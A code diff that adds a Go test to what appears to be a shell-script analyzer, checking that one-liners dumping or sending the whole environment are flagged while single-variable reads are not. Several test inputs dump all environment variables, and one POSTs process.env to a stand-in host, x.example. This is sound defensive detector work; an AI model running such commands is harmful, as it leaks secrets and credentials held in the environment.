@@ -29,6 +29,35 @@ func derived(t *testing.T, script string) ([]string, []Program) {
 	return out, progs
 }
 
+// TestEnvDump checks that code printing or sending the whole environment
+// is told from code reading one variable or counting them.
+func TestEnvDump(t *testing.T) {
+	for script, want := range map[string]bool{
+		`python3 -c "import os;print(os.environ)"`:                                                true,
+		`python3 -c "import os,json;print(json.dumps(dict(os.environ)))"`:                         true,
+		`python3 -c "import os;[print(k,v) for k,v in os.environ.items()]"`:                       true,
+		`node -e "console.log(process.env)"`:                                                      true,
+		`node -e "fetch('https://x.example/c',{method:'POST',body:JSON.stringify(process.env)})"`: true,
+		`ruby -e 'puts ENV.to_h'`:                                                                 true,
+		`perl -e 'print "$_=$ENV{$_} " for keys %ENV'`:                                            true,
+		`php -r 'print_r(getenv());'`:                                                             true,
+		`python3 -c "import os;print(os.environ['PATH'])"`:                                        false,
+		`python3 -c "import os;print(len(os.environ))"`:                                           false,
+		`python3 -c "import os,subprocess;subprocess.run(['make'],env=os.environ)"`:               false,
+		`node -e "console.log(process.env.NODE_ENV)"`:                                             false,
+		`node -e "console.log(Object.keys(process.env))"`:                                         false,
+		`ruby -e 'puts ENV["HOME"]'`:                                                              false,
+		`php -r 'echo getenv("HOME");'`:                                                           false,
+	} {
+		a := shell.Analyze(script, shell.DefaultLimits)
+		progs := Expand(a, shell.DefaultLimits)
+		got := len(progs) > 0 && progs[0].EnvDump
+		if got != want {
+			t.Errorf("%s: EnvDump %v, want %v", script, got, want)
+		}
+	}
+}
+
 func TestExpand(t *testing.T) {
 	for _, tc := range []struct {
 		script string
